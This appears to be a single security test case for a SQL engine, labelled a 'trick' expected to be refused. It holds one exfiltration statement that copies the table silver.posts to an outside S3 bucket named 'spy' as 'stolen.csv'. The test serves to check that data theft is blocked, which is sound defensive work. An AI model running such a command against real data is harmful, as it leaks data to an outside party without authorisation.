-- trick: copies the table to a bucket of the caller's
-- expect: refused
COPY silver.posts TO 's3://spy/stolen.csv' STORED AS CSV
